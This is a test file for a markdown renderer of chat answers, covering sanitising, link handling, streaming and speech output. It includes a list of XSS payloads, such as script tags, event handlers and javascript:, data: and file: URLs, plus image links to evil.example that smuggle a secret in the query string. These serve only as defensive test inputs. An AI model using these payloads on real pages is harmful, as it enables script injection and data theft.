import { render } from 'preact';
import { afterEach, describe, expect, it } from 'vitest';
import { GrowingText, blocksOf } from '../src/markdown/blocks';
import { targetOf } from '../src/markdown/inline';
import { spoken } from '../src/markdown/spoken';
import { Prose } from '../src/markdown/Prose';

const place = document.createElement('div');
afterEach(() => render(null, place));

function drawn(text: string, open = false): HTMLElement {
  render(null, place);
  render(<Prose text={text} open={open} />, place);
  return place;
}

const inner = (text: string, open = false): string => drawn(text, open).querySelector('.prose')?.innerHTML ?? '';

const WHITELIST = new Set(
  'DIV P BR STRONG EM DEL CODE PRE UL OL LI BLOCKQUOTE A SPAN TABLE THEAD TBODY TR TH TD H3 H4 H5 HR'.split(' '),
);
const ATTRIBUTES = new Set('class href target rel start scope tabindex role data-language'.split(' '));

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle r=9 /></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<style>*{background:url(https://evil.example/?s)}</style>',
  '<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](vbscript:msgbox(1))',
  '[x](file:///etc/passwd)',
  '[x](blob:https://a.example/1)',
  '[x](/console/keys?revoke=all)',
  '[x](//evil.example/x)',
  '[x](https://user:pass@evil.example/)',
  '<javascript:alert(1)>',
  '![secret](https://evil.example/steal?q=SECRET)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![a](https://evil.example/a.png "onerror=alert(1)")',
  '[![x](https://evil.example/p.png)](https://evil.example)',
  '[a](https://evil.example "x\\" onmouseover=\\"alert(1)")',
  '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:1) | ![y](https://evil.example/y) |',
  '# <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '**<svg/onload=alert(1)>**',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

describe('an answer on the page', () => {
  it.each(ATTACKS)('is inert: %s', (attack) => {
    for (const open of [true, false]) {
      for (const element of drawn(`before ${attack} after\n\n${attack}`, open).querySelectorAll('*')) {
        expect(WHITELIST).toContain(element.tagName);
        for (const attribute of element.attributes) {
          expect(ATTRIBUTES).toContain(attribute.name);
        }
        const href = element.getAttribute('href');
        expect(href ?? 'https://').toMatch(/^(https?|mailto|tel):/);
      }
    }
  });

  it('stays inert while it grows letter by letter', () => {
    const text = ATTACKS.join('\n\n');
    const growing = new GrowingText();
    for (let end = 0; end <= text.length; end += 7) {
      growing.blocks(text.slice(0, end), true);
    }

    expect(growing.blocks(text, false)).toEqual(blocksOf(text));
  });

  it('never draws an image, but says where it would have come from', () => {
    expect(inner('![a cat](https://evil.example/cat.png?q=SECRET)')).toBe(
      '<p><a href="https://evil.example/cat.png?q=SECRET" target="_blank" rel="noopener nofollow ugc">'
        + '🖼 a cat<span class="host"> (evil.example)</span></a></p>',
    );
  });

  it('shows the host of a link unless the label is the address itself', () => {
    expect(drawn('[my bank](https://evil.example/x)').textContent).toBe('my bank (evil.example)');
    expect(drawn('[https://bank.example/evil.example](https://evil.example)').textContent).toContain('(evil.example)');
    expect(drawn('see https://shop.example.vn/a.').textContent).toBe('see https://shop.example.vn/a.');
  });

  it.each([
    ['**đậm** và *nghiêng* và ~~bỏ~~', '<p><strong>đậm</strong> và <em>nghiêng</em> và <del>bỏ</del></p>'],
    ['snake_case_name and 5*3*2 * 4', '<p>snake_case_name and 5<em>3</em>2 * 4</p>'],
    ['items[0] and [note]', '<p>items[0] and [note]</p>'],
    ['one\ntwo', '<p>one<br>two</p>'],
    ['`a < b` and ``x`y``', '<p><code>a &lt; b</code> and <code>x`y</code></p>'],
    ['\\*not\\*', '<p>*not*</p>'],
    ['# Title #', '<h3>Title</h3>'],
    ['- a\n- b\n  - c\n\nafter', '<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul><p>after</p>'],
    ['3. x\n4. y', '<ol start="3"><li>x</li><li>y</li></ol>'],
    ['- [x] done\n- [ ] open', '<ul><li>☑ done</li><li>☐ open</li></ul>'],
    ['> a\n> b', '<blockquote><p>a<br>b</p></blockquote>'],
    ['a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
    ['$5 and $6', '<p>$5 and $6</p>'],
  ])('reads %j', (text, html) => {
    expect(inner(text)).toBe(html);
  });

  it('reads code without touching it', () => {
    const code = drawn('```java\nif (a < b) {\n\n  **x**\n}\n```\nafter').querySelector('pre code');

    expect(code?.textContent).toBe('if (a < b) {\n\n  **x**\n}');
  });

  it('reads a table with its alignment', () => {
    const table = drawn('| a | b |\n|:--|--:|\n| 1 | 2 \\| 3 |');

    expect(table.querySelector('td.right')?.textContent).toBe('2 | 3');
  });

  it('draws what is unfinished as far as it goes', () => {
    expect(inner('say **bo', true)).toBe('<p>say <strong>bo</strong></p>');
    expect(inner('say **bo', false)).toBe('<p>say **bo</p>');
    expect(drawn('| a | b |\n|:-', true).querySelectorAll('th')).toHaveLength(2);
    expect(drawn('```js\nlet x', true).querySelector('pre')?.textContent).toBe('let x');
  });
});

const TEXT =
  '# Đơn hàng\n\nXin **chào** bạn\n\n- một\n- hai\n\n  tiếp\n\n```js\na\n\nb\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nHết.';

describe('an answer read aloud', () => {
  it('has its words and not its marks', () => {
    const text = '# Đơn **DH1024**\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n2. `x`\n3. [y](https://a.example)';

    expect(spoken(text)).toBe('Đơn DH1024\na, b\n1, 2\n2. x\n3. y');
  });
});

describe('a growing text', () => {
  it('ends up as if it had been read whole, wherever it was cut', () => {
    for (let cut = 0; cut <= TEXT.length; cut += 1) {
      const growing = new GrowingText();
      growing.blocks(TEXT.slice(0, cut), true);
      expect(growing.blocks(TEXT, false), `cut at ${cut}`).toEqual(blocksOf(TEXT));
    }
  });

  it('keeps the identity of blocks that cannot change any more', () => {
    const growing = new GrowingText();
    const before = growing.blocks('first\n\nsecond\n\nth', true);
    const after = growing.blocks('first\n\nsecond\n\nthird', true);

    expect(after[0]).toBe(before[0]);
    expect(after[1]).toBe(before[1]);
  });

  it('reads hostile text in a time that grows with its length, not with its square', () => {
    const hostile = [
      '**a '.repeat(20_000),
      '[a]('.repeat(20_000),
      '`a``'.repeat(20_000),
      '> '.repeat(20_000),
      '- '.repeat(20_000),
      '*_'.repeat(20_000),
      '!['.repeat(20_000),
    ];
    for (const text of hostile) {
      const start = performance.now();
      blocksOf(text);
      expect(performance.now() - start, text.slice(0, 8)).toBeLessThan(1_500);
    }
  });
});

describe('a target', () => {
  it('is absolute, of a known scheme and without a login', () => {
    expect(targetOf('https://a.example/x')?.host).toBe('a.example');
    expect(targetOf('mailto:a@b.example')?.host).toBe('a@b.example');
    expect(targetOf('tel:+84901234567')?.host).toBe('+84901234567');
    expect(targetOf('https://a@b.example')).toBeNull();
    expect(targetOf('relative')).toBeNull();
  });
});
